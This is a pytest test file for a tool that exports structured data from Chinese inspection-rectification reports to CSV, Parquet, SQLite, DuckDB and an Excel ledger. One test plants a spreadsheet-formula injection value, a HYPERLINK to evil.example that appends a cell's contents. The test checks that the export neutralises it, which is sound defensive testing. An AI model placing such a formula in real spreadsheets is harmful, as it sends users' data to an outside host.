"""The export tables and the XLSX ledger, from job folders written here from hand-built reports."""

from __future__ import annotations

import contextlib
import csv
import json
import re
import sqlite3
import tracemalloc
from datetime import datetime
from pathlib import Path
from typing import Any, get_args

import pytest

from tests.helpers import ROOT
from zhenggai import export as export_module
from zhenggai.export import (
    EXTRACTORS,
    INDICATORS,
    LABEL_SOURCES,
    MEASURE_KINDS,
    MEASURE_STATUSES,
    PRECISIONS,
    REPORT_STATUSES,
    SEVERITIES,
    TABLES,
    Sentences,
    export,
    rows,
)
from zhenggai.schemas import (
    DateMention,
    Figure,
    Indicator,
    LabelSource,
    Measure,
    MeasureKind,
    MeasureStatus,
    Meta,
    Precision,
    Problem,
    Progress,
    Provenance,
    Report,
    Span,
    Status,
    ValidationIssue,
)

TEXT = (
    "根据省委统一部署,2021年5月10日至7月15日,省委第一巡视组对某县进行了巡视。\n"
    "截至目前,已完成整改30项,正在整改5项。\n"
    "(1)针对“投资不实”的问题。一是县委常委会召开会议3次。二是县政府印发《整改方案》,2021年9月完成投资约1141亿元。\n"
    "完成情况:已完成\n"
    "中共某县委\n2021年12月10日\n"
)


def _span(needle: str, after: str = "") -> dict[str, Any]:
    """The span of ``needle`` where it first follows ``after`` in TEXT."""
    start = TEXT.index(after + needle) + len(after)
    return {"text": needle, "start": start, "end": start + len(needle)}


def report(sha: str = "a", extractor: str = "rules", problems: int = 1) -> Report:
    """A report of TEXT; ``sha`` is repeated to a sha256, ``problems`` copies its one problem."""
    problem = Problem(
        label="(1)",
        title=Span(**_span("投资不实")),
        finding=Span(**_span("投资不实")),
        measures=[
            Measure(
                **_span("一是县委常委会召开会议3次。"),
                marker="一是",
                kind="meeting",
                status="done",
                responsible=[Span(**_span("县委常委会"))],
                sources={"kind": "rules", "status": "both", "responsible": "rules"},
            ),
            Measure(
                **_span("二是县政府印发《整改方案》,2021年9月完成投资约1141亿元。"),
                marker="二是",
                kind="project",
                status="in_progress",
                responsible=[Span(**_span("县政府"))],
                documents=[Span(**_span("《整改方案》"))],
                sources={"kind": "llm", "status": "rules", "responsible": "llm", "documents": "llm"},
            ),
        ],
        figures=[
            Figure(
                **_span("3次"),
                value=3,
                unit="次",
                subject=Span(**_span("召开会议")),
                indicator="meetings",
                sources={"subject": "rules", "indicator": "both"},
            ),
            Figure(
                **_span("约1141亿元"),
                value=114100000000,
                unit="元",
                approximate=True,
                subject=Span(**_span("完成投资")),
                indicator="funds_spent",
                sources={"subject": "llm", "indicator": "rules"},
            ),
        ],
        dates=[DateMention(**_span("2021年9月"), start_iso="2021-09", precision="month")],
        reported_status=Span(**_span("已完成", after="完成情况:")),
    )
    return Report(
        source="x.txt",
        sha256=(sha * 64)[:64],
        status="ok",
        text=TEXT,
        meta=Meta(
            issuer=Span(**_span("中共某县委")),
            inspected_unit=Span(**_span("某县")),
            inspection_team=Span(**_span("省委第一巡视组")),
            inspection_kind="巡视",
            inspection_start="2021-05-10",
            inspection_end="2021-07-15",
            published_date="2021-12-10",
            reference_year=2021,
            progress=[
                Progress(**_span("已完成整改30项"), label="已完成整改", value=30, unit="项"),
                Progress(**_span("正在整改5项"), label="正在整改", value=5, unit="项"),
            ],
        ),
        problems=[problem] * problems,
        provenance=Provenance(extractor=extractor, version="1"),
    )


def make_job(tmp_path: Path, *reports: Report, no_text: bool = False) -> Path:
    job = tmp_path / "job"
    job.mkdir(parents=True)
    with (job / "reports.jsonl").open("w", encoding="utf-8") as f:
        for i, r in enumerate(reports):
            data = r.model_dump(mode="json", exclude={"text"} if no_text else None)
            key = f"{r.sha256}:{r.provenance.extractor}:{r.provenance.version}"  # as zhenggai.job writes it
            f.write(json.dumps({"key": key, "path": f"{i}.txt", "metadata": {}, "report": data}) + "\n")
    return job


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig") as f:
        return list(csv.DictReader(f))


def test_a_document_recorded_twice_counts_once_as_its_last_record(tmp_path: Path) -> None:
    # a rerun with another engine appends a second record of document "a" after document "b"
    job = make_job(tmp_path, report("a", "rules", 1), report("b"), report("a", "llm", 2))
    tables = rows(job)
    # in the order documents were first extracted, each by its current record
    assert [(r["report_id"], r["extractor"]) for r in tables["reports"]] == [("a" * 16, "llm"), ("b" * 16, "rules")]
    assert len(tables["problems"]) == 1 + 2
    assert len(tables["measures"]) == 2 * (1 + 2)
    assert len({r["problem_id"] for r in tables["problems"]}) == len(tables["problems"])
    export(job, "csv")
    assert len(read_csv(job / "export" / "figures.csv")) == 2 * (1 + 2)


def test_every_parquet_table_has_the_same_column_types_empty_or_not(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    issue = ValidationIssue(code="not_verbatim", message="m", path="problems[0]", start=1, end=2)
    full = make_job(tmp_path / "full", report("a").model_copy(update={"issues": [issue]}))
    empty = make_job(tmp_path / "empty", report("b", problems=0).model_copy(update={"meta": Meta()}))
    for job in (full, empty):
        export(job, "parquet")
    for table in TABLES:
        schemas = [pq.read_schema(job / "export" / f"{table}.parquet") for job in (full, empty)]
        assert schemas[0].equals(schemas[1]), table
        assert pq.read_table(full / "export" / f"{table}.parquet").num_rows > 0, table
    assert str(pq.read_schema(empty / "export" / "issues.parquet").field("start").type) == "int64"
    assert str(pq.read_schema(empty / "export" / "figures.parquet").field("value").type) == "double"


def xlsx(job: Path) -> Any:
    import openpyxl

    (path,) = export(job, "xlsx")
    return openpyxl.load_workbook(path)


def records_of(ws: Any) -> list[dict[str, Any]]:
    """A sheet's rows as header → value."""
    header, *body = ws.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in body]


@pytest.mark.parametrize("sheet", ["整改台账", "报告"])
def test_a_sheet_names_each_report_by_unit_issuer_year_and_team_beside_its_id(tmp_path: Path, sheet: str) -> None:
    ws = xlsx(make_job(tmp_path, report()))[sheet]
    header = [c.value for c in ws[1]]
    at = header.index("报告编号")
    assert header[at + 1 : at + 5] == ["被巡视(巡察)单位", "发布单位", "年份", "巡视(巡察)组"]
    assert [c.value for c in ws[2]][at + 1 : at + 5] == ["某县", "中共某县委", 2021, "省委第一巡视组"]


def test_the_reports_progress_counts_are_a_table(tmp_path: Path) -> None:
    job = make_job(tmp_path, report("a"), report("b").model_copy(update={"meta": Meta()}))
    expected = [
        {"report_id": "a" * 16, "label": "已完成整改", "text": "已完成整改30项", "value": 30.0, "unit": "项"},
        {"report_id": "a" * 16, "label": "正在整改", "text": "正在整改5项", "value": 5.0, "unit": "项"},
    ]
    assert [{k: r[k] for k in expected[0]} for r in rows(job)["progress"]] == expected
    ws = xlsx(job)["整改进展"]
    assert [(r["原文"], r["数值"], r["单位"]) for r in records_of(ws)] == [
        ("已完成整改30项", 30, "项"),
        ("正在整改5项", 5, "项"),
    ]


@pytest.mark.parametrize(
    ("table", "text", "context"),
    [
        ("figures", "3次", "一是县委常委会召开会议3次。"),
        ("figures", "约1141亿元", "二是县政府印发《整改方案》,2021年9月完成投资约1141亿元。"),
        ("dates", "2021年9月", "二是县政府印发《整改方案》,2021年9月完成投资约1141亿元。"),
        ("progress", "正在整改5项", "截至目前,已完成整改30项,正在整改5项。"),
    ],
)
@pytest.mark.parametrize("no_text", [False, True])
def test_a_figure_or_date_carries_the_sentence_it_stands_in(
    tmp_path: Path, table: str, text: str, context: str, no_text: bool
) -> None:
    (row,) = (r for r in rows(make_job(tmp_path, report(), no_text=no_text))[table] if r["text"] == text)
    # a record extracted with --no-text has no sentence to show: the column stays empty
    assert row["context"] == ("" if no_text else context)


def test_offsets_are_left_out_of_the_ledger_and_kept_in_csv(tmp_path: Path) -> None:
    job = make_job(tmp_path, report())
    for ws in xlsx(job):
        assert not {"起", "止"} & {c.value for c in ws[1]}, ws.title
    export(job, "csv")
    for table in ("progress", "measures", "figures", "dates", "issues"):
        with (job / "export" / f"{table}.csv").open(encoding="utf-8-sig") as f:
            assert {"start", "end"} <= set(next(csv.reader(f))), table


@pytest.mark.parametrize("problems", [0, 2])
def test_every_sheet_has_an_autofilter_over_its_header_and_rows(tmp_path: Path, problems: int) -> None:
    from openpyxl.utils import get_column_letter

    for ws in xlsx(make_job(tmp_path, report(problems=problems))):
        assert ws.auto_filter.ref == f"A1:{get_column_letter(ws.max_column)}{ws.max_row}", ws.title


@pytest.mark.parametrize(
    ("codes", "labels"),
    [
        (get_args(MeasureKind), MEASURE_KINDS),
        (get_args(MeasureStatus), MEASURE_STATUSES),
        (get_args(Status), REPORT_STATUSES),
        (tuple(Precision), PRECISIONS),
        (get_args(ValidationIssue.model_fields["severity"].annotation), SEVERITIES),
        (("rules", "llm"), EXTRACTORS),
        (get_args(LabelSource), LABEL_SOURCES),
        (get_args(Indicator), INDICATORS),
    ],
)
def test_every_code_of_the_schema_has_a_chinese_label(codes: tuple[str, ...], labels: dict[str, str]) -> None:
    assert [c for c in codes if c not in labels] == []


def test_the_ledger_shows_chinese_labels_and_csv_keeps_the_codes(tmp_path: Path) -> None:
    r = report()
    problem = r.problems[0]
    # a code newer than the label table passes through as it is
    novel = problem.measures[1].model_copy(update={"kind": "brand_new"})
    job = make_job(
        tmp_path,
        r.model_copy(update={"problems": [problem.model_copy(update={"measures": [problem.measures[0], novel]})]}),
    )
    wb = xlsx(job)
    assert [(m["措施类型"], m["整改状态"]) for m in records_of(wb["整改措施"])] == [
        ("会议", "已完成"),
        ("brand_new", "正在整改"),
    ]
    assert [x["整改状态"] for x in records_of(wb["整改台账"])] == ["已完成、正在整改"]
    assert [x["约数"] for x in records_of(wb["数字"])] == ["否", "是"]
    assert [x["精度"] for x in records_of(wb["日期"])] == ["月"]
    assert [(x["状态"], x["抽取方式"]) for x in records_of(wb["报告"])] == [("正常", "规则")]
    export(job, "csv")
    assert [(m["kind"], m["status"]) for m in read_csv(job / "export" / "measures.csv")] == [
        ("meeting", "done"),
        ("brand_new", "in_progress"),
    ]
    assert [x["approximate"] for x in read_csv(job / "export" / "figures.csv")] == ["False", "True"]


@pytest.mark.parametrize(
    ("iso", "value", "number_format"),
    [
        ("2021-09-18", datetime(2021, 9, 18), "yyyy-mm-dd"),
        # a month or a year is its first day, shown only to the precision the report gave
        ("2021-09", datetime(2021, 9, 1), "yyyy-mm"),
        ("2021", datetime(2021, 1, 1), "yyyy"),
        ("2021-02-30", "2021-02-30", "General"),  # no such day: the text as extracted
        (None, None, "General"),
    ],
)
def test_the_ledger_writes_iso_dates_as_excel_dates(
    tmp_path: Path, iso: str | None, value: datetime | str | None, number_format: str
) -> None:
    r = report()
    mention = r.problems[0].dates[0].model_copy(update={"start_iso": iso})
    problem = r.problems[0].model_copy(update={"dates": [mention]})
    meta = r.meta.model_copy(update={"inspection_start": iso})
    wb = xlsx(make_job(tmp_path, r.model_copy(update={"problems": [problem], "meta": meta})))
    for ws, header in ((wb["日期"], "开始"), (wb["报告"], "巡视开始")):
        cell = ws.cell(2, [c.value for c in ws[1]].index(header) + 1)
        assert (cell.value, cell.number_format) == (value, number_format), ws.title


@pytest.mark.parametrize(
    ("value", "number_format"),
    [(114100000000, "#,##0"), (30, "#,##0"), (85.7, "#,##0.####"), (1.25, "#,##0.####")],
)
def test_the_ledger_gives_figures_and_progress_a_number_format_beside_unit_and_text(
    tmp_path: Path, value: float, number_format: str
) -> None:
    r = report()
    figure = r.problems[0].figures[0].model_copy(update={"value": value})
    progress = r.meta.progress[0].model_copy(update={"value": value})
    problem = r.problems[0].model_copy(update={"figures": [figure]})
    meta = r.meta.model_copy(update={"progress": [progress]})
    wb = xlsx(make_job(tmp_path, r.model_copy(update={"problems": [problem], "meta": meta})))
    for ws in (wb["数字"], wb["整改进展"]):
        header = [c.value for c in ws[1]]
        at = header.index("数值")
        assert header[at - 1 : at + 2] == ["原文", "数值", "单位"], ws.title
        cell = ws.cell(2, at + 1)
        assert (cell.value, cell.number_format) == (value, number_format), ws.title


def test_report_text_never_becomes_a_formula(tmp_path: Path) -> None:
    import openpyxl

    from tests.helpers import DEV_GOLD
    from zhenggai.inputs import expand
    from zhenggai.job import run_job

    hostile = '＝HYPERLINK("http://evil.example/?d="&A2,"x")'  # full-width ＝ is normalised to =
    text = (
        (DEV_GOLD / "huiji_2021.txt")
        .read_text(encoding="utf-8")
        .replace("(1)理论学习表面化", f"(1){hostile}理论学习表面化", 1)
    )
    (tmp_path / "r.txt").write_text(text, encoding="utf-8")
    run_job(expand([str(tmp_path / "r.txt")]), tmp_path / "job", quiet=True)
    export(tmp_path / "job", "xlsx")
    export(tmp_path / "job", "csv")
    sheet = openpyxl.load_workbook(tmp_path / "job" / "export" / "整改台账.xlsx").worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)
    [row] = [r for r in read_csv(tmp_path / "job" / "export" / "problems.csv") if "HYPERLINK" in r["finding"]]
    assert row["finding"].startswith("'=HYPERLINK")


def test_a_measure_carries_its_labels_bodies_and_documents_each_with_its_source(tmp_path: Path) -> None:
    tables = rows(make_job(tmp_path, report()))
    labels = ["kind", "kind_source", "status", "status_source", "responsible", "responsible_source"]
    assert [[m[k] for k in ["problem_index", "measure_index", *labels, "documents", "documents_source"]]
            for m in tables["measures"]] == [
        [1, 1, "meeting", "rules", "done", "both", "县委常委会", "rules", "", ""],
        [1, 2, "project", "llm", "in_progress", "rules", "县政府", "llm", "《整改方案》", "llm"],
    ]  # fmt: skip
    # one row per body and per document, keyed to its measure, with its offsets into the text
    part = ["report_id", "problem_id", "problem_index", "measure_index", "text", "source"]
    assert [[r[k] for k in part] for r in tables["responsible"]] == [
        ["a" * 16, "a" * 16 + "-001", 1, 1, "县委常委会", "rules"],
        ["a" * 16, "a" * 16 + "-001", 1, 2, "县政府", "llm"],
    ]
    assert [[r[k] for k in part] for r in tables["documents"]] == [
        ["a" * 16, "a" * 16 + "-001", 1, 2, "《整改方案》", "llm"]
    ]
    assert all(TEXT[r["start"] : r["end"]] == r["text"] for t in ("responsible", "documents") for r in tables[t])


def test_the_ledger_shows_each_label_and_where_it_came_from(tmp_path: Path) -> None:
    wb = xlsx(make_job(tmp_path, report()))
    cols = ["措施类型", "类型来源", "整改状态", "状态来源", "责任主体", "主体来源", "印发文件", "文件来源"]
    assert [[m[c] for c in cols] for m in records_of(wb["整改措施"])] == [
        ["会议", "规则", "已完成", "规则与大模型一致", "县委常委会", "规则", None, None],
        ["项目推进", "大模型", "正在整改", "规则", "县政府", "大模型", "《整改方案》", "大模型"],
    ]
    cols = ["数字序号", "措施序号", "计数对象", "对象来源", "指标", "指标来源"]
    assert [[f[c] for c in cols] for f in records_of(wb["数字"])] == [
        [1, 1, "召开会议", "规则", "会议学习", "规则与大模型一致"],
        [2, 2, "完成投资", "大模型", "投入资金", "规则"],
    ]
    assert [(d["原文"], d["标注来源"]) for d in records_of(wb["印发文件"])] == [("《整改方案》", "大模型")]


def test_a_figure_is_keyed_to_the_measure_it_stands_in_or_to_none(tmp_path: Path) -> None:
    r = report()
    outside = Figure(**_span("5项"), value=5, unit="项")  # in the progress line, before every measure
    problem = r.problems[0].model_copy(update={"figures": [outside, *r.problems[0].figures]})
    tables = rows(make_job(tmp_path, r.model_copy(update={"problems": [problem]})))
    assert [(f["text"], f["figure_index"], f["measure_index"]) for f in tables["figures"]] == [
        ("5项", 1, None),
        ("3次", 2, 1),
        ("约1141亿元", 3, 2),
    ]
    assert [(d["text"], d["measure_index"]) for d in tables["dates"]] == [("2021年9月", 2)]
    assert next((f["subject"], f["indicator"], f["indicator_source"]) for f in tables["figures"]) == ("", "", "")


@pytest.mark.parametrize(
    ("text", "sentence"),
    [
        ("甲。乙3次。丙", "乙3次。"),
        ("甲;乙3次;丙", "乙3次;"),
        ("甲；乙3次；丙", "乙3次；"),
        ("甲!乙3次!丙", "乙3次!"),
        ("甲！乙3次！丙", "乙3次！"),
        ("甲?乙3次?丙", "乙3次?"),
        ("甲？乙3次？丙", "乙3次？"),
        ("甲\n乙3次\n丙", "乙3次"),  # a line is a sentence; the line break is stripped
        ("甲,乙3次,丙。", "甲,乙3次,丙。"),  # a comma ends no sentence
        ("3次,乙", "3次,乙"),  # from the text's start to its end
        ("甲。 乙3次 \n丙", "乙3次"),
    ],
)
def test_the_sentence_around_a_span_runs_from_the_previous_end_to_the_next(text: str, sentence: str) -> None:
    start = text.index("3次")
    assert Sentences(text).around({"start": start, "end": start + 2}) == sentence


def test_a_problem_shows_the_status_the_report_gives_and_null_where_none(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    r = report()
    silent = r.problems[0].model_copy(update={"reported_status": None})
    job = make_job(tmp_path, r.model_copy(update={"problems": [r.problems[0], silent]}))
    assert [p["reported_status"] for p in rows(job)["problems"]] == ["已完成", None]
    export(job, "parquet")
    assert pq.read_table(job / "export" / "problems.parquet").column("reported_status").to_pylist() == ["已完成", None]
    (db,) = export(job, "sqlite")
    assert sqlite3.connect(db).execute("SELECT reported_status FROM problems").fetchall() == [("已完成",), (None,)]
    export(job, "csv")
    assert [p["reported_status"] for p in read_csv(job / "export" / "problems.csv")] == ["已完成", ""]
    assert [p["报告所述完成情况"] for p in records_of(xlsx(job)["整改台账"])] == ["已完成", None]


def test_the_summary_sums_a_reports_figures_per_indicator_and_unit(tmp_path: Path) -> None:
    r = report(problems=2)  # the same two figures twice: 3次 of meetings, 约1141亿元 of funds spent
    extra = [
        Figure(**_span("30项"), value=30, unit="项", indicator="meetings"),  # meetings again, another unit
        Figure(**_span("5项"), value=5, unit="项"),  # no indicator: a row of its own, last
    ]
    third = r.problems[0].model_copy(update={"figures": extra})
    job = make_job(tmp_path, r.model_copy(update={"problems": [*r.problems, third]}), report("b", problems=0))
    summary = [(s["report_id"], s["indicator"], s["unit"], s["value"], s["figures"]) for s in rows(job)["indicators"]]
    # in the vocabulary's order: funds_spent comes before meetings
    assert summary == [
        ("a" * 16, "funds_spent", "元", 2 * 114100000000.0, 2),
        ("a" * 16, "meetings", "次", 6.0, 2),
        ("a" * 16, "meetings", "项", 30.0, 1),
        ("a" * 16, "", "项", 5.0, 1),
    ]
    wb = xlsx(job)
    # the summary sheet stands beside the report's own progress counts
    assert wb.sheetnames.index("指标汇总") == wb.sheetnames.index("整改进展") + 1
    assert [(s["指标"], s["单位"], s["合计"], s["数字个数"]) for s in records_of(wb["指标汇总"])][:2] == [
        ("投入资金", "元", 228200000000, 2),
        ("会议学习", "次", 6, 2),
    ]


def test_every_table_carries_the_report_key_and_the_indexes_that_join_it() -> None:
    keys = {"report_id"}
    for name, cols in TABLES.items():
        names = {c.name for c in cols}
        assert keys <= names, name
        if name in ("problems", "measures", "responsible", "documents", "figures", "dates"):
            assert {"problem_id", "problem_index"} <= names, name
        if name in ("measures", "responsible", "documents", "figures", "dates"):
            assert "measure_index" in names, name
    assert "figure_index" in {c.name for c in TABLES["figures"]}


def test_a_table_longer_than_a_sheet_goes_on_in_a_numbered_sheet_beside_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_module, "XLSX_MAX_ROWS", 4)  # a header and three rows
    job = make_job(tmp_path, report(problems=4))  # 8 measures: 3 + 3 + 2
    wb = xlsx(job)
    at = wb.sheetnames.index("整改措施")
    assert wb.sheetnames[at : at + 4] == ["整改措施", "整改措施 2", "整改措施 3", "责任主体"]
    measures = [records_of(wb[name]) for name in wb.sheetnames[at : at + 3]]
    assert [len(m) for m in measures] == [3, 3, 2]
    assert [(m["问题序号"], m["措施序号"]) for part in measures for m in part] == [
        (p, j) for p in range(1, 5) for j in (1, 2)
    ]
    assert wb["整改措施 3"].auto_filter.ref == f"A1:{wb['整改措施 3'].dimensions.split(':')[1][:-1]}3"


def _readme_sql() -> dict[str, str]:
    """The README's SQL block in its export section: each query under its ``--`` comment."""
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme[readme.index("## Jobs over a corpus") :]
    block = re.search(r"```sql\n(.*?)```", section, re.S)
    assert block, "no ```sql block in the README's corpus section"
    return {m[1].strip(): m[2].strip() for m in re.finditer(r"-- (.*)\n((?:(?!--).*\n)+)", block[1])}


def _query(db: Path, sql: str) -> list[tuple[Any, ...]]:
    if db.suffix == ".duckdb":
        import duckdb

        with duckdb.connect(str(db), read_only=True) as con:
            return con.execute(sql).fetchall()
    with contextlib.closing(sqlite3.connect(db)) as con:
        return con.execute(sql).fetchall()


@pytest.mark.parametrize("to", ["sqlite", "duckdb"])
def test_the_readmes_sql_runs_on_a_small_job_and_answers_across_reports(tmp_path: Path, to: str) -> None:
    a = report("a", problems=2)
    a = a.model_copy(
        update={"problems": [p.model_copy(update={"category": Span(**_span("投资不实"))}) for p in a.problems]}
    )
    b = report("b").model_copy(update={"meta": report().meta.model_copy(update={"inspection_team": None})})
    (db,) = export(make_job(tmp_path, a, b), to)
    queries = _readme_sql()
    assert len(queries) == 3
    answers = [_query(db, q) for q in queries.values()]
    # problems per category: report a's two under 投资不实, report b's one without a category
    assert answers[0] == [("投资不实", 2), ("", 1)]
    # figures per indicator and unit, over both reports: three of each
    assert answers[1] == [("funds_spent", "元", 3 * 114100000000.0, 3), ("meetings", "次", 9.0, 3)]
    assert sorted(answers[2]) == [("", 1), ("省委第一巡视组", 1)]


def test_the_duckdb_tables_hold_the_parquet_tables_rows_and_types(tmp_path: Path) -> None:
    import duckdb
    import pyarrow.parquet as pq

    job = make_job(tmp_path, report("a", problems=2), report("b", problems=0).model_copy(update={"meta": Meta()}))
    (db,) = export(job, "duckdb")
    export(job, "parquet")
    with duckdb.connect(str(db), read_only=True) as con:
        for table in TABLES:
            stored = con.sql(f'SELECT * FROM "{table}"').to_arrow_table()
            expected = pq.read_table(job / "export" / f"{table}.parquet")
            assert stored.schema.equals(expected.schema), table
            assert stored.to_pylist() == expected.to_pylist(), table


@pytest.mark.parametrize("to", ["csv", "parquet", "sqlite", "duckdb", "xlsx"])
def test_an_export_holds_a_report_at_a_time_not_the_corpus(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, to: str
) -> None:
    monkeypatch.setattr(export_module, "_BATCH", 100)  # Parquet row groups that a small job fills many times

    def peak(reports: int) -> int:
        job = make_job(tmp_path / str(reports), *(report(f"{i:x}", problems=5) for i in range(reports)))
        tracemalloc.start()
        export(job, to)
        _, top = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return top

    peak(1)  # the writer's modules imported before anything is counted
    small, large = peak(20), peak(80)
    # streamed, the peak grows by a few percent; an export that gathers every row first peaks 2-4 times as
    # high on four times the reports (measured by handing the writers a list of every report's rows)
    assert large < 1.5 * small, (small, large)
